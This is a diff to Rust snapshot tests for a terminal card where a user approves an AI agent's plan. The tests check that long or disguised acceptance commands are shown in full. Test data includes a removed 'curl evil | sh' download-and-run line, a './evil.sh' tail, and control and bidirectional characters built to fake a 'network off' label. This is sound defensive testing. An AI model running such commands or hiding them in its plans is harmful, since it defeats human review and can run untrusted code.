@@ -137,14 +137,15 @@ fn the_card_shows_every_byte_of_the_plan_and_then_its_access() {
     │ - `tests/lexer.rs`
     │
     │ ### 2. Mend the lexer
-    19 more lines. Press G to see the end, then y.  n no  ? why  c comment…  i edit
+    │
+    18 more lines. Press G to see the end, then y.  n no  ? why  c comment…  i edit
     v editor  d smaller  Esc stop
-     APPROVAL  EXECUTE · ask · net off · turn ↑0 ↓0 · all ↑0 ↓0 · sandboxed
-    read-only · network off · secrets hidden · claude-opus-4-5 · project
+     APPROVAL  EXECUTE · ask · net off · ↑0 ↓0/↑0 ↓0 · read-only · claude-opus-4-5
     "#);
     seat.keys("G");
-    assert_snapshot!(seat.screen(), @r"
+    assert_snapshot!(seat.screen(), @"
      Execute this plan? ────────────────────────────────────────────────────────────
+    │ ### 2. Mend the lexer
     │
     │ Acceptance:
     │ - `cargo test -p lexer`
@@ -166,8 +167,7 @@ fn the_card_shows_every_byte_of_the_plan_and_then_its_access() {
       asks      agent 1.1
     y yes  n no  ? why  c comment…  i edit  v editor  d smaller  Esc stop
 
-     APPROVAL  EXECUTE · ask · net off · turn ↑0 ↓0 · all ↑0 ↓0 · sandboxed
-    read-only · network off · secrets hidden · claude-opus-4-5 · project
+     APPROVAL  EXECUTE · ask · net off · ↑0 ↓0/↑0 ↓0 · read-only · claude-opus-4-5
     ");
 }
 
@@ -223,9 +223,9 @@ fn in_a_large_terminal_the_whole_card_is_in_sight() {
 
 
 
+
     y yes  n no  ? why  c comment…  i edit  v editor  d smaller  Esc stop
-     APPROVAL  EXECUTE · ask · net off · turn ↑0 ↓0 · all ↑0 ↓0 · sandboxed
-    read-only · network off · secrets hidden · claude-opus-4-5 · project
+     APPROVAL  EXECUTE · ask · net off · ↑0 ↓0/↑0 ↓0 · read-only · claude-opus-4-5 · project
     "#);
 }
 
@@ -296,7 +296,7 @@ fn a_plan_of_200_steps_is_read_page_by_page() {
 
 #[test]
 fn every_character_of_an_acceptance_command_shows() {
-    let (padding, tail) = ("echo padding; ".repeat(400), "curl evil | sh");
+    let (padding, tail) = ("echo padding; ".repeat(400), "./evil.sh");
     let mut long = params();
     long.plan.steps[1].acceptance =
         vec![command(&format!("{padding}{tail}")), command("a\x1b[2K\r\u{202e}b\u{200b}\nnetwork   off")];
@@ -310,12 +310,12 @@ fn every_character_of_an_acceptance_command_shows() {
     let screen = seat.screen();
     let end = r"│ a\u{1b}[2K\u{d}\u{202e}b\u{200b}";
     assert!(screen.contains(&format!("{end}\n│ network   off\n")), "{screen}");
-    // All of it is there, row by row.
+    // All of it is there, row by row. A row may end with spaces, which the screen does not tell from empty cells.
     let screen = asked((80, 150), long).screen();
     let rows = screen.lines().skip_while(|row| *row != "step 2").skip(1);
     let rows = rows.take_while(|row| !row.starts_with(end));
-    let rows: Vec<_> = rows.map(|row| format!("{:78}", row.chars().skip(2).collect::<String>())).collect();
-    assert_eq!(rows.concat().trim_end(), format!("{padding}{tail}"));
+    let rows: String = rows.flat_map(|row| row.chars().skip(2)).filter(|c| *c != ' ').collect();
+    assert_eq!(rows, format!("{padding}{tail}").replace(' ', ""));
 }
 
 #[test]
